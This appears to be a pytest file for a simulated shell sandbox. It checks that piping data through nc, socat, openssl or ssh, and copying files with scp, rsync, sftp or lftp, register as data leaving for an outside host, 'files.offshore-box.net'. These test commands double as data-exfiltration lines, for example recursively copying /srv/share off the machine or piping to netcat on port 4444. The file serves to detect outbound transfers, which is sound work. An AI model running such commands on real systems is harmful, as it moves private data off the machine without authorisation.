"""nc, ssh, scp, rsync, ftp, openssl."""

from __future__ import annotations

import pytest

FAR = "files.offshore-box.net"


def left(desk, command: str):
    desk.effects.clear()
    desk.run(command)
    return [e for e in desk.effects if e.action == "data-sent"]


@pytest.mark.parametrize(
    ("command", "protocol", "port", "data"),
    [
        (f"echo hi | nc {FAR} 4444", "tcp", 4444, b"hi\n"),
        (f"echo hi | nc -u {FAR} 53", "udp", 53, b"hi\n"),
        (f"echo hi | ncat --ssl {FAR} 443", "tls", 443, b"hi\n"),
        (f"echo hi | telnet {FAR} 7", "tcp", 7, b"hi\n"),
        (f"echo hi | socat - TCP:{FAR}:7", "tcp", 7, b"hi\n"),
        (f"echo hi | openssl s_client -quiet -connect {FAR}:8443", "tls", 8443, b"hi\n"),
        (f"echo hi | ssh me@{FAR} 'cat > x'", "ssh", 22, b"cat > x\nhi\n"),
        (f"ssh -p 2222 {FAR} id", "ssh", 2222, b"id\n"),
    ],
)
def test_what_is_piped_leaves(command: str, protocol: str, port: int, data: bytes, desk) -> None:
    effect = left(desk, command)[0]
    assert (effect.protocol, effect.port, effect.data, effect.stage) == (protocol, port, data, "delivered")


@pytest.mark.parametrize(
    ("command", "names"),
    [
        (f"scp notes.txt me@{FAR}:/x", ["notes.txt"]),
        (f"scp -P 2222 -i key notes.txt /srv/share/plan.txt {FAR}:", ["notes.txt", "plan.txt"]),
        (f"scp -r /srv/share {FAR}:/x", ["share/plan.txt", "share/trial/results.csv", "share/trial/scan.bin"]),
        (f"rsync -avz -e ssh /srv/share/trial {FAR}:/x", ["trial/results.csv", "trial/scan.bin"]),
        (f"rsync -a notes.txt rsync://{FAR}/mod/", ["notes.txt"]),
        (f"rsync -a notes.txt {FAR}::mod/", ["notes.txt"]),
        (f"printf 'put notes.txt\\nbye\\n' | sftp me@{FAR}", ["notes.txt"]),
        (f"ncftpput -u a -p b {FAR} /in notes.txt", ["notes.txt"]),
        (f"lftp -e 'put notes.txt; bye' {FAR}", ["notes.txt"]),
    ],
)
def test_files_leave(command: str, names: list[str], desk) -> None:
    found = left(desk, command)
    assert len(found) == 1
    assert [n for n, _ in found[0].files] == names


def test_to_itself_is_no_crossing(desk) -> None:
    assert left(desk, "ssh localhost 'echo there'; rsync -a notes.txt /tmp/; scp notes.txt /tmp/n2") == []
    assert desk.out("ssh robin@nw-files01 'echo there; pwd'") == "there\n/home/robin\n"
    assert desk.out("cat /tmp/notes.txt /tmp/n2") == "remember the milk\n" * 2
    assert "Permission denied" in desk.run("ssh root@localhost id").stderr


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("nc", 1),
        ("nc binbox.example", 1),
        ("nc no-such.invalid 80", 1),
        ("echo x | nc binbox.example 9", 1),
        ("ssh", 255),
        ("ssh no-such.invalid", 255),
        ("scp x", 1),
        ("scp /none a:/b", 1),
        ("scp notes.txt no-such.invalid:", 255),
        ("sftp", 1),
        ("openssl bogus", 1),
        ("scp me@binbox.example:/x .", 1),
        ("nc -z no-such.invalid 80", 1),
    ],
)
def test_refused(command: str, code: int, desk) -> None:
    assert desk.run(command).exit_code == code


def test_openssl(desk) -> None:
    assert desk.out("echo hi | openssl base64") == "aGkK\n"
    assert desk.out("echo aGkK | openssl base64 -d") == "hi\n"
    assert "98ea6e4f" in desk.out("echo hi | openssl dgst -sha256")
    assert len(desk.out("openssl rand -hex 4").strip()) == 8


def test_a_key_pair(desk) -> None:
    desk.run("ssh-keygen -t ed25519 -f k -N ''")
    assert desk.world.files.get("/home/robin/k").mode == 0o600
    assert desk.out("cat k.pub").startswith("ssh-ed25519 ")
    assert left(desk, f"ssh-copy-id me@{FAR}")[0].protocol == "ssh"


@pytest.mark.parametrize(
    "command",
    [
        "scp notes.txt rsync://[::1",
        "rsync notes.txt rsync://h:99999/x",
        "rsync notes.txt rsync://h:abc/x",
        "scp notes.txt 'scp://[bad/x'",
        "sftp 'sftp://[bad/'",
        "lftp 'ftp://[bad/'",
        "ssh 'ssh://[bad/'",
        "nc binbox.example ²",
        "socat - TCP:h:x",
        "socat - TCP:",
        "openssl",
    ],
)
def test_places_that_are_none(command: str, desk) -> None:
    result = desk.run(f"echo x | {command}")
    assert (result.exit_code, desk.kinds()) == (0 if command == "openssl" else 1, [])
    assert len(result.stderr) < 200


@pytest.mark.parametrize("port", ["²", "x"])
@pytest.mark.parametrize(
    ("command", "usual"),
    [("ssh -p {} F id", 22), ("scp -P {} notes.txt F:", 22), ("ftp -P {} F", 21)],
)
def test_a_port_that_is_none_is_the_usual_one(command: str, usual: int, port: str, desk) -> None:
    assert left(desk, command.format(port).replace("F", FAR) + " < /dev/null")[0].port == usual
